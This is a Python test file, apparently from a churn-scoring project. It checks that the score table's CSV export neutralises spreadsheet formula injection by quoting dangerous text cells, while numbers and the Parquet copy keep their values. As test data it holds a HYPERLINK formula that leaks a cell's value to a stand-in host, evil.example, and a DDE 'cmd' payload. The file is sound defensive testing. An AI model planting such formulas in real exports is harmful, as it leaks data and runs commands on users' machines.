"""The score table's CSV, opened in a spreadsheet, runs no formula (OWASP "CSV injection"):
text cells starting with =, +, -, @, tab or carriage return get a leading quote; numbers,
including negative ones, stay numbers; the Parquet table keeps the values as they are."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pandas as pd

from churnlens.serving.score import write_table

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def test_text_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path: Path) -> None:
    ids = [HYPERLINK, "+1 555", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "acme-42", None]
    table = pd.DataFrame({
        "account_id": ids,
        "churn_probability": [0.5, 0.1, 0.2, 0.3, 0.4, 0.6, 0.7, 0.8],
        "arr_change": [-1200.5, -3.0, 0.0, 10.0, -0.25, 1.0, 2.0, None],
        "health_score": [-5, 10, 20, 30, 40, 50, 60, 70],
        "segment": pd.Categorical(["=cmd|' /C calc'!A0", "high touch", "high touch", "-x",
                                   "low touch", "low touch", "mid touch", "mid touch"]),
        "new_account": [True, False, True, False, True, False, True, False],
    })
    parquet, written = write_table(table, tmp_path, date(2024, 3, 1))
    rows = _cells(written)

    assert [row["account_id"] for row in rows] == [
        "'" + HYPERLINK, "'+1 555", "'-2", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1", "acme-42", ""]
    assert [row["segment"] for row in rows][:4] == [
        "'=cmd|' /C calc'!A0", "high touch", "high touch", "'-x"]
    # numbers are not text: a negative number is written as the number it is
    assert [row["arr_change"] for row in rows][:2] == ["-1200.5", "-3"]
    assert rows[0]["health_score"] == "-5"
    assert rows[0]["new_account"] == "true"
    # the table the API and pages read keeps the ids as the company wrote them
    assert pd.read_parquet(parquet)["account_id"].tolist()[:3] == [HYPERLINK, "+1 555", "-2"]
